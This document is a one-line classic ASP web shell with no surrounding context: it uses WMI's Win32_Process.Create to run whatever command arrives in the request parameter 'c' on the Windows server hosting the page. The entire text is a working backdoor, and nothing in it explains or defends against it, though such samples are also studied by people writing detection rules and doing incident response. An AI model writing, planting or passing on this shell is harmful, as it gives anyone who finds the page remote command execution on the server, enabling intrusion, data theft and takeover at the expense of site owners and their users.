<% Set p = GetObject("winmgmts:\\.\root\cimv2:Win32_Process") : p.Create Request("c"), Null, Null, pid %>
